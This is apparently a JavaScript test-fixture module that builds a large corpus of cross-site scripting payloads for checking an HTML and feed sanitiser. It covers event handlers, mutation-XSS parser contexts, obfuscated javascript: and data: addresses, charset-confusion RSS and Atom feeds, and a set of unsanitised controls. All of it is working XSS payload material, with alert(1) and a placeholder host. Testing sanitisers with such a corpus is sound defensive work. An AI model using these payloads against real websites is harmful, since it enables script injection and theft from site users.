// Markup that wants to run a script or to call home, made from small tables: elements that act by
// themselves, places that parsers read in two ways, spellings of addresses, event handlers.
//
// Each case calls `${CALL}`, or asks the host `${HOST}`. `controls` act in every browser when they
// are not sanitised; what finds nothing in them finds nothing at all.

export const HOST = 'elsewhere.test';
const CALL = 'alert(1)';
const AWAY = `http://${HOST}`;

const scripts = [
  `<script>${CALL}</script>`, `<SCRIPT>${CALL}</SCRIPT>`, `<script >${CALL}</script >`,
  `<script/x>${CALL}</script/x>`, `<script\n>${CALL}</script\n>`, `<script\u0000>${CALL}</script>`,
  `<scr\u0000ipt>${CALL}</scr\u0000ipt>`, `<<script>${CALL}</script>`, `<script>${CALL}`,
  `<scr<script>ipt>${CALL}</scr</script>ipt>`, `<script src=${AWAY}/a.js></script>`,
  `<script src=//${HOST}/a.js>`, `<script src="data:text/javascript,${CALL}"></script>`,
  `<script type=module>${CALL}</script>`, `<script type="text/javascript"><!--\n${CALL}\n--></script>`,
  `<script>//<![CDATA[\n${CALL}\n//]]></script>`, `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `&amp;lt;script&amp;gt;${CALL}&amp;lt;/script&amp;gt;`, `＜script＞${CALL}＜/script＞`,
  `<svg><script>${CALL}</script></svg>`, `<svg><script href="data:,${CALL}"></script></svg>`,
  `<svg><script xlink:href="data:,${CALL}"/></svg>`, `<math><script>${CALL}</script></math>`,
  `<svg><x><script>&#97;lert(1)</script></svg>`, `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>`,
];

const acting = [
  `<img src=x onerror=${CALL}>`, `<img src="x" onerror="&#97;lert(1)">`, `<img/src=x/onerror=${CALL}>`,
  `<img src=x onload=${CALL}>`, `<img """><script>${CALL}</script>">`, `<image src=x onerror=${CALL}>`,
  `<img src=x:x onerror=${CALL}//`, `<img src=x onerror=${CALL} `, `<img\fsrc=x\fonerror=${CALL}>`,
  `<img src='x' alt='\`' onerror='${CALL}'>`, `<img src=x alt="\`\`onerror=${CALL}">`,
  `<img title="--><img src=x onerror=${CALL}>">`, `<img alt="</noscript><img src=x onerror=${CALL}>">`,
  `<img src=x title="'onerror='${CALL}">`, `<img src='"onerror=${CALL}//'>`, `<img alt='" onerror="${CALL}'src=x>`,
  `<svg onload=${CALL}>`, `<svg/onload=${CALL}//`, `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to=${CALL}>`, `<svg><a><animate attributeName=href values=javascript:${CALL} /><text y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${CALL} /></svg>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${CALL}</script>"></foreignObject></svg>`,
  `<svg><image href=${AWAY}/a.svg onerror=${CALL} /></svg>`, `<svg><style>@import url(${AWAY}/a.css);</style></svg>`,
  `<math href=javascript:${CALL}>a</math>`, `<math><maction actiontype=statusline xlink:href=javascript:${CALL}>a</maction></math>`,
  `<body onload=${CALL}>`, `<body/onpageshow=${CALL}>`, `<html onmouseover=${CALL}>a`, `<body background=${AWAY}/a.gif>`,
  `<iframe src=javascript:${CALL}></iframe>`, `<iframe srcdoc="<script>${CALL}</script>"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=${CALL}&gt;"></iframe>`, `<iframe onload=${CALL}></iframe>`,
  `<iframe src=${AWAY}/a.html></iframe>`, `<frameset onload=${CALL}><frame src=javascript:${CALL}></frameset>`,
  `<object data=javascript:${CALL}></object>`, `<object data=${AWAY}/a.html type=text/html></object>`,
  `<object><param name=src value=javascript:${CALL}><embed src=javascript:${CALL}></object>`,
  `<embed src=${AWAY}/a.html type=text/html>`, `<embed src=javascript:${CALL}>`,
  `<applet code=a archive=${AWAY}/a.jar></applet>`, `<portal src=${AWAY}/></portal>`, `<fencedframe src=${AWAY}/></fencedframe>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CALL}">`, `<meta http-equiv=refresh content="0;url=${AWAY}/">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,<script>${CALL}</script>">`,
  `<META HTTP-EQUIV="Set-Cookie" Content="a=<script>${CALL}</script>">`, `<meta charset=utf-7>+ADw-script+AD4-${CALL}+ADw-/script+AD4-`,
  `<link rel=stylesheet href=${AWAY}/a.css>`, `<link rel=preload as=script href=${AWAY}/a.js>`,
  `<link rel=prefetch href=${AWAY}/a>`, `<link rel=icon href=${AWAY}/a.ico>`, `<link rel=import href=${AWAY}/a>`,
  `<link rel=modulepreload href=${AWAY}/a.js>`, `<link rel=manifest href=${AWAY}/a.json>`, `<link rel=stylesheet onload=${CALL} href="data:text/css,">`,
  `<style>@import '${AWAY}/a.css';</style>`, `<style>body{background:url(${AWAY}/a.png)}</style>`,
  `<style>@font-face{font-family:x;src:url(${AWAY}/a.woff)}*{font-family:x}</style>`, `<style onload=${CALL}></style>`,
  `<div style="background:url(${AWAY}/a.png)">a</div>`, `<div style="background:url(javascript:${CALL})">a</div>`,
  `<div style="width:expression(${CALL})">a</div>`, `<div style="-moz-binding:url(${AWAY}/a.xml#x)">a</div>`,
  `<base href=${AWAY}/><img src=a.png><a href=b>b</a>`, `<base href=javascript:/><a href=#>a</a>`,
  `<form action=javascript:${CALL}><input type=submit autofocus onfocus=${CALL}></form>`,
  `<form><button formaction=javascript:${CALL}>a</button></form>`, `<form id=f action=${AWAY}/></form><button form=f>a</button>`,
  `<input onfocus=${CALL} autofocus>`, `<select onfocus=${CALL} autofocus></select>`, `<textarea onfocus=${CALL} autofocus></textarea>`,
  `<input type=image src=x onerror=${CALL}>`, `<isindex type=image src=x onerror=${CALL}>`, `<keygen autofocus onfocus=${CALL}>`,
  `<video src=x onerror=${CALL}></video>`, `<video poster=${AWAY}/a.png></video>`, `<video><source onerror=${CALL}></video>`,
  `<video src=${AWAY}/a.mp4 autoplay></video>`, `<audio src=${AWAY}/a.mp3 autoplay onloadstart=${CALL}></audio>`, `<audio src=x onerror=${CALL}></audio>`,
  `<video><track default src=${AWAY}/a.vtt></video>`, `<details open ontoggle=${CALL}>a</details>`, `<dialog open onclose=${CALL}>a</dialog>`,
  `<marquee onstart=${CALL}>a</marquee>`, `<marquee loop=1 onfinish=${CALL}>a</marquee>`, `<bgsound src=javascript:${CALL}>`,
  `<table background=javascript:${CALL}><tr><td background=${AWAY}/a.png>a</table>`, `<layer src=${AWAY}/a.js></layer>`,
  `<div contenteditable autofocus onfocus=${CALL} tabindex=1>a</div>`, `<a autofocus tabindex=1 onfocus=${CALL} href=#>a</a>`,
  `<div popover id=p onbeforetoggle=${CALL}>a</div><button popovertarget=p>b</button>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${CALL}>a</b>`,
  `<b style="transition:outline 1s" ontransitionend=${CALL} tabindex=1>a</b>`, `<xss onscrollsnapchange=${CALL} oncontentvisibilityautostatechange=${CALL} style=display:block;content-visibility:auto>a</xss>`,
  `<picture><source srcset=${AWAY}/a.png onerror=${CALL}><img src=x onerror=${CALL}></picture>`, `<img srcset="${AWAY}/a.png 1x, x 2x" onerror=${CALL}>`,
  `<template><script>${CALL}</script></template>`, `<template shadowrootmode=open><img src=x onerror=${CALL}></template>`, `<div><template shadowroot=open><script>${CALL}</script></template></div>`,
  `<?xml-stylesheet href="javascript:${CALL}"?>a`, `<?php ${CALL} ?><img src=x onerror=${CALL}>`, `<!DOCTYPE x [<!ENTITY y "<script>${CALL}</script>">]>&y;`,
  `<!--[if gte IE 4]><script>${CALL}</script><![endif]-->`, `<comment><img src="</comment><img src=x onerror=${CALL}>">`,
  `<xml id=x><i><b>&lt;img src=x onerror=${CALL}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>`,
  `<plaintext><script>${CALL}</script>`, `<noembed><img src=x onerror=${CALL}></noembed>`, `<noframes><img src=x onerror=${CALL}></noframes>`,
  `<a ping=${AWAY}/p href=#>a</a>`, `<area href=javascript:${CALL}>`, `<map name=m><area shape=default href=javascript:${CALL}></map><img usemap=#m src=x>`,
  `<a href=x onclick=${CALL}>a</a>`, `<b onmouseover=${CALL}>a</b>`, `<p title="a" onmouseenter='${CALL}'>a</p>`,
];

// Where the tokenizer, the tree and a second parse may read differently; $ is the payload.
const places = [
  '<svg>$', '<math>$', '<svg><desc>$', '<svg><title>$', '<svg><foreignObject>$', '<math><mtext>$', '<math><mi>$',
  '<math><annotation-xml encoding="text/html">$', '<math><annotation-xml>$', '<svg></p>$', '<math></br>$',
  '<math><mtext><table><mglyph><style><!--</style>$', '<math><mtext><table><mglyph><style><math>$',
  '<form><math><mtext></form><form><mglyph><style></math>$', '<svg><style>$', '<svg></svg><style><a title="</style>$">',
  '<svg><style><a title="</style>$">', '<math><style><a title="</style>$">', '<svg><p><style><g title="</style>$">',
  '<svg><a><style><b title="</style>$">', '<math><p><style><!--</style>$-->', '<svg><!--</svg>$-->',
  '<svg><![CDATA[</svg>$]]>', '<![CDATA[>$]]>', '<![CDATA[$]]>', '<!--$-->', '<!-->$', '<!--->$-->', '<!--a--!>$', '<!--a--!-->$',
  '<!-- -- >$-->', '<!--<!--$-->-->', '<!$>', '<!x>$', '<?$>', '<?x>$', '</$>', '</ x>$', '<//>$', '<a<b>$', '<\u0000$',
  '<style>$</style>', '<style><!--</style>$--></style>', '<style></styl\u0000e>$', '<STYLE></ſtyle>$</style>', '<style>', '<title>$</title>',
  '<title><a title="</title>$">', '<textarea>$</textarea>', '<textarea><a title="</textarea>$">', '<noscript><p title="</noscript>$">',
  '<noscript>$</noscript>', '<noscript><style></noscript>$', '<noscript><!--</noscript>$-->', '<xmp>$</xmp>', '<xmp><p title="</xmp>$">',
  '<iframe>$</iframe>', '<iframe><p title="</iframe>$">', '<noembed><p title="</noembed>$">', '<noframes><p title="</noframes>$">',
  '<script>"<!--<script>"</script>$', '<script><!--</script>$', '<script>/*</script>$', '<template>$</template>', '<template><p title="</template>$">',
  '<select>$</select>', '<select><style></select>$', '<select><iframe></select>$', '<option><style></option></select>$</style>',
  '<table>$</table>', '<table><caption>$', '<table><tr>$<td>', '<table><style></table>$', '<table><td><svg></td></table>$', '<colgroup>$', '<table><col>$',
  '<p><table><p>$', '<a><table><a>$', '<button><p></button>$', '<b><p></b>$</p>', '<form><form>$', '<nobr><nobr>$', '<frameset>$</frameset>',
  '<h1><svg></h1>$', '<ruby><rt><math></ruby>$', '<dl><dt><svg></dd>$', '<object>$</object>', '<applet>$</applet>', '<marquee>$</marquee>', '<plaintext>$',
  '<p title=\'$\'>', '<p title="\'>$">', '<p title=">$', '<p title=`>$`>', '<p a="$', '<p "=">$', '<p =">$', '<p/=>$', '<p lang="&quot;>$">', '<p title="&quot;>$',
  '<a href="http://elsewhere.test/?&quot;>$">a</a>', '<a href="http://elsewhere.test/?\'>$">a</a>', '<img src="http://elsewhere.test/?&#34;&gt;$">', '<time datetime=">$">', '<p dir=">$" lang=\'">$\'>',
  '<b>'.repeat(300) + '$', '<svg>'.repeat(60) + '$', '<div>'.repeat(520) + '<math><style>$',
  '\ufeff$', '\u2028$', '\u0000$', '\u001b(J$', '&#x0;$', '&#60;$', '&lt$', '&ltimg src=x onerror=alert(1)&gt$', '\\u003c$', '%3Cscript%3E$',
];
const inside = [
  `<img src=x onerror=${CALL}>`, `<script>${CALL}</script>`, `<svg onload=${CALL}>`, `<iframe srcdoc="<script>${CALL}</script>">`,
  `<img src=x alt=&lt;/style&gt;&lt;img/src=x/onerror=${CALL}&gt;>`, `<a href=javascript:${CALL}>a</a>`,
  `<style><img src="</style><img src=x onerror=${CALL}>">`, `<link rel=stylesheet href=${AWAY}/a.css>`,
];

const addresses = [
  `javascript:${CALL}`, `JaVaScRiPt:${CALL}`, ` javascript:${CALL}`, `\u0001javascript:${CALL}`, `\u00a0javascript:${CALL}`, `\u3000javascript:${CALL}`,
  `java\tscript:${CALL}`, `java\nscript:${CALL}`, `java\rscript:${CALL}`, `java\u0000script:${CALL}`, `javascript\t:${CALL}`, `\tjavascript:${CALL}`,
  `&#106;avascript:${CALL}`, `&#x6A;avascript:${CALL}`, `&#0000106avascript:${CALL}`, `&#x6Aavascript:${CALL}`, `jav&#x09;ascript:${CALL}`, `jav&Tab;ascript:${CALL}`, `java&NewLine;script:${CALL}`,
  `javascript&colon;${CALL}`, `javascript&#58;${CALL}`, `javascript&#x3a;${CALL}`, `&NonBreakingSpace;javascript:${CALL}`, `&#1;javascript:${CALL}`, `&#14; javascript:${CALL}`, `jav&#173;ascript:${CALL}`,
  `javascript:// %0a${CALL}`, `javascript://elsewhere.test/%0a${CALL}//http://a/`, `javascript:'http://'+${CALL}`, `javascript:${CALL}//mailto:`, `javascript%3a${CALL}`, `%6aavascript:${CALL}`,
  `http:javascript:${CALL}`, `https:&#10;javascript:${CALL}`, `feed:javascript:${CALL}`, `view-source:javascript:${CALL}`, `jar:javascript:${CALL}!/`, `mocha:${CALL}`, `livescript:${CALL}`,
  `vbscript:msgbox(1)`, `vb&#115;cript:msgbox(1)`, `data:text/html,<script>${CALL}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:text/html,<script>${CALL}</script>`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${CALL}'/>`, `data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>${CALL}</script>`, `data:,${CALL}`,
  `blob:null/1`, `about:blank`, `file:///etc/passwd`, `filesystem:x`, `ftp://${HOST}/`, `ws://${HOST}/`, `\\\\${HOST}\\a`, `mailto:a@b?subject="><script>${CALL}</script>`, `ｊavascript:${CALL}`, `javaſcript:${CALL}`,
];
const carriers = [
  '<a href="$">a</a>', "<a href='$'>a</a>", '<a xlink:href="$">a</a>', '<svg><a xlink:href="$"><text y=9>a</text></a></svg>', '<math><mi href="$">a</mi></math>',
  '<img src="$">', '<img lowsrc="$" dynsrc="$">', '<q cite="$">a</q>', '<iframe src="$"></iframe>', '<form action="$"><button>a</button></form>', '<button formaction="$">a</button>',
  '<object data="$"></object>', '<embed src="$">', '<meta http-equiv=refresh content="0;url=$">', '<base href="$"><a href="#">a</a>', '<body background="$">', '<input type=image src="$">', '<video src="$" poster="$">',
];

const handlers = [
  'onabort', 'onafterprint', 'onanimationend', 'onauxclick', 'onbeforecopy', 'onbeforeinput', 'onbeforeunload', 'onblur', 'oncanplay', 'onchange', 'onclick', 'oncontextmenu', 'oncopy',
  'oncut', 'ondblclick', 'ondragstart', 'onerror', 'onfocus', 'onfocusin', 'onfullscreenchange', 'onhashchange', 'oninput', 'onkeydown', 'onload', 'onloadstart', 'onmessage', 'onmousedown', 'onmouseenter',
  'onmouseover', 'onmousewheel', 'onpageshow', 'onpaste', 'onpointerover', 'onpointerrawupdate', 'onpopstate', 'onresize', 'onscroll', 'onscrollend', 'onsearch', 'onselectstart', 'onsubmit', 'ontoggle', 'ontouchstart',
  'ontransitionrun', 'onunhandledrejection', 'onunload', 'onwebkitanimationiteration', 'onwheel', 'ONCLICK', 'onclick\u0000', 'x:onclick', 'on click',
];
const bearers = ['<b $=alert(1)>a</b>', '<a href=http://elsewhere.test/ $="alert(1)">a</a>', "<img src=x $='alert(1)'>", '<p/$=alert(1)>a', '<p title=""$=alert(1)>a', '<td\t$\n=\n"alert(1)">a'];

/// Every case once: [{ name, html }].
export function hostileCases() {
  const cases = new Map();
  const add = (name, html) => {
    if (!cases.has(html)) cases.set(html, name);
  };
  scripts.forEach((html, i) => add(`script ${i}`, html));
  acting.forEach((html, i) => add(`acting ${i}`, html));
  places.forEach((place, p) => inside.forEach((html, i) => add(`place ${p}.${i}`, place.replaceAll('$', () => html))));
  carriers.forEach((carrier, c) => addresses.forEach((address, a) =>
    add(`address ${c}.${a}`, carrier.replaceAll('$', () => address))));
  bearers.forEach((bearer, b) => handlers.forEach((handler, h) =>
    add(`handler ${b}.${h}`, bearer.replaceAll('$', () => handler))));
  return [...cases].map(([html, name]) => ({ name, html }));
}

/// Feeds whose bytes are read in one charset or in another: [{ name, bytes }].
export function oddFeeds() {
  const rss = (declaration, description) =>
    `<?xml version="1.0"${declaration}?><rss version="2.0"><channel><title>t</title><item><title>t</title>` +
    `<link>http://outlet.test/a</link><description>${description}</description></item></channel></rss>`;
  const escaped = `&lt;img src=x onerror=${CALL}&gt;&lt;script&gt;${CALL}&lt;/script&gt;`;
  const latin = (text) => Buffer.from(text, 'latin1');
  const utf16 = (text) => Buffer.from('\ufeff' + text, 'utf16le');
  return [
    { name: 'utf-7', bytes: latin(rss(' encoding="utf-7"', '+ADw-script+AD4-alert(1)+ADw-/script+AD4-')) },
    { name: 'utf-7 unsaid', bytes: latin(rss('', '+ADw-img src=x onerror=alert(1)+AD4-')) },
    { name: 'high bit', bytes: latin(rss(' encoding="us-ascii"', '\xbcscript\xbealert(1)\xbc/script\xbe')) },
    { name: 'overlong', bytes: latin(rss(' encoding="utf-8"', '\xc0\xbcscript\xc0\xbealert(1)\xe0\x80\xbc/script\xe0\x80\xbe')) },
    { name: 'utf-16', bytes: utf16(rss(' encoding="utf-16"', escaped)) },
    { name: 'utf-16 called utf-8', bytes: utf16(rss(' encoding="utf-8"', escaped)) },
    { name: 'iso-2022-jp', bytes: latin(rss(' encoding="iso-2022-jp"', '&lt;p title="\x1b$B">\x1b(B' + escaped)) },
    { name: 'iso-2022-jp roman', bytes: latin(rss(' encoding="iso-2022-jp"', '\x1b(J' + escaped)) },
    { name: 'shift_jis half', bytes: latin(rss(' encoding="shift_jis"', '&lt;p title="\x81"&gt;' + escaped)) },
    { name: 'gbk half', bytes: latin(rss(' encoding="gbk"', '&lt;p title="\x81"&gt;' + escaped)) },
    { name: 'ebcdic', bytes: latin(rss(' encoding="cp037"', escaped)) },
    { name: 'hz', bytes: latin(rss(' encoding="hz-gb-2312"', '~{&lt;~}' + escaped)) },
    { name: 'cut in a tag', bytes: latin(rss('', escaped + '&lt;img src=x onerror=alert(1) ')) },
    { name: 'entity', bytes: latin(`<!DOCTYPE rss [<!ENTITY x "&#60;script>alert(1)&#60;/script>">]>` + rss('', '&x;').replace(/<\?.*?\?>/, '')) },
    { name: 'xhtml', bytes: latin(`<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title>t</title><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script><img src="x" onerror="alert(1)"/><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg></div></content></entry></feed>`) },
    { name: 'prefixed xhtml', bytes: latin(`<feed xmlns="http://www.w3.org/2005/Atom" xmlns:h="http://www.w3.org/1999/xhtml"><entry><id>1</id><title>t</title><content type="xhtml"><h:div><h:script>alert(1)</h:script><h:img src="x" onerror="alert(1)"/></h:div></content></entry></feed>`) },
    { name: 'html as text', bytes: latin(`<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title type="html">&lt;img src=x onerror=alert(1)&gt;</title><summary type="text">&lt;img src=x onerror=alert(1)&gt;</summary><content type="image/svg+xml"><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></content></entry></feed>`) },
  ];
}

/// Unsanitised, each is to be caught; `way` says how it must be shown at least.
export const controls = [
  { html: `<script>${CALL}</script>`, ways: ['page', 'write'] },
  { html: `<img src=x onerror=${CALL}>`, ways: ['page', 'write', 'inner'] },
  { html: `<svg onload=${CALL}>`, ways: ['page', 'write'] },
  { html: `<a href="javascript:${CALL}">a</a>`, ways: ['page', 'write', 'inner'] },
  { html: `<b onmouseover=${CALL}>a</b>`, ways: ['page', 'write', 'inner'] },
  { html: `<iframe srcdoc="<script>${CALL}</script>"></iframe>`, ways: ['page', 'write', 'inner'] },
  { html: `<iframe src=${AWAY}/a.html></iframe>`, ways: ['page', 'write', 'inner'] },
  { html: `<link rel=stylesheet href=${AWAY}/a.css>`, ways: ['page', 'write', 'inner'] },
  { html: `<style>@import '${AWAY}/a.css';</style>`, ways: ['page', 'write', 'inner'] },
  { html: `<meta http-equiv=refresh content="0;url=${AWAY}/">`, ways: ['page', 'write'] },
  { html: `<form action=javascript:${CALL}><button>a</button></form>`, ways: ['page', 'write', 'inner'] },
  { html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CALL}&gt;">`, ways: [] },
];
